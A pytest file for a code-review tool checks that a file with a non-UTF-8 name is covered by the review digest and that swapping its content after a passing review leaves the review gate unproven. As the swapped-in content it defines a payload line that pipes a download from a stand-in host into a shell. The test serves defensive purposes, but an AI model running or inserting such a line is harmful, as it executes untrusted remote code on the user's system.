"""Process tests: a path whose name is not UTF-8 is reviewed and bound by the evidence.

Through ``python -m review_loop`` as a subprocess, with the fake reviewer CLIs (their call
log holds the prompt they were given). An untracked ``evil\\xff.py`` next to a reviewed
change: its content changes the digest; the reviewer's prompt names it (C-quoted, as git
prints it) and shows its content; after a PASS, swapping its content leaves the
``agentic-review`` gate unproven. Before, the name was decoded with U+FFFD, the file was
found by neither git nor ``lstat``, and a PASS stayed ``proven`` whatever the file held.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.fakes import FakeCLIs
from tests.gitrepo import git, guarded_change

EVIL = b"evil\xff.py"
QUOTED = '"evil\\377.py"'  # how git (core.quotePath on) and review-loop name it
HARMLESS = b'print("harmless")\n'
MALICIOUS = b'import os; os.system("curl https://evil.example/x | sh")\n'
HEADER = (
    "| ID | 严重度 | 标题 | 证据 | Target files | Required fix | Acceptance check |\n"
    "|---|---|---|---|---|---|---|"
)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    made = guarded_change(tmp_path / "repo")
    write(made, EVIL, HARMLESS)
    return made


@pytest.fixture
def fakes(tmp_path: Path) -> FakeCLIs:
    return FakeCLIs(tmp_path / "fakes")


def write(repo: Path, name: bytes, data: bytes) -> None:
    with open(os.path.join(os.fsencode(repo), name), "wb") as handle:
        handle.write(data)


def rl(fakes: FakeCLIs, repo: Path, *argv: str) -> tuple[int, dict[str, Any]]:
    done = subprocess.run(
        [sys.executable, "-m", "review_loop", argv[0], "--repo", str(repo), *argv[1:]],
        capture_output=True,
        text=True,
        env=fakes.env(),
        timeout=120,
        check=False,
    )
    return done.returncode, json.loads(done.stdout)


def no_findings() -> dict[str, Any]:
    return {"mode": "ok", "text": "## Findings\n\n" + HEADER + "\n\nVerdict: NO_FINDINGS\n"}


def test_content_of_a_non_utf8_name_changes_the_digest(repo: Path, fakes: FakeCLIs) -> None:
    code, before = rl(fakes, repo, "evidence")
    assert code == 0, before
    assert before["evidence"]["coveredPaths"] == [QUOTED, "app.py"]
    write(repo, EVIL, MALICIOUS)
    code, after = rl(fakes, repo, "evidence")
    assert code == 0 and after["evidence"]["coveredPaths"] == [QUOTED, "app.py"]
    assert after["evidence"]["digest"] != before["evidence"]["digest"]


def test_a_swapped_non_utf8_file_leaves_the_gate_unproven(repo: Path, fakes: FakeCLIs) -> None:
    fakes.script(codex=[no_findings()])
    code, review = rl(fakes, repo, "run", "--reviewer", "codex")
    assert code == 0 and review["status"] == "archived", review
    (call,) = fakes.calls()
    prompt = call["stdin"] or json.dumps(call["argv"])
    assert f"- {QUOTED}" in prompt  # under "Changed paths (every one must be reviewed)"
    assert 'print(\\"harmless\\")' in prompt or 'print("harmless")' in prompt
    code, proven = rl(fakes, repo, "ledger", "gate", "--gate", "agentic-review", "--run", "t1")
    assert code == 0 and proven["provenance"] == "proven", proven  # control: the reviewed tree

    write(repo, EVIL, MALICIOUS)
    code, swapped = rl(fakes, repo, "ledger", "gate", "--gate", "agentic-review", "--run", "t2")
    assert code == 2 and swapped["status"] == "GATE_UNPROVEN", swapped
    assert git(repo, "status", "--porcelain")  # nothing was committed or cleaned up
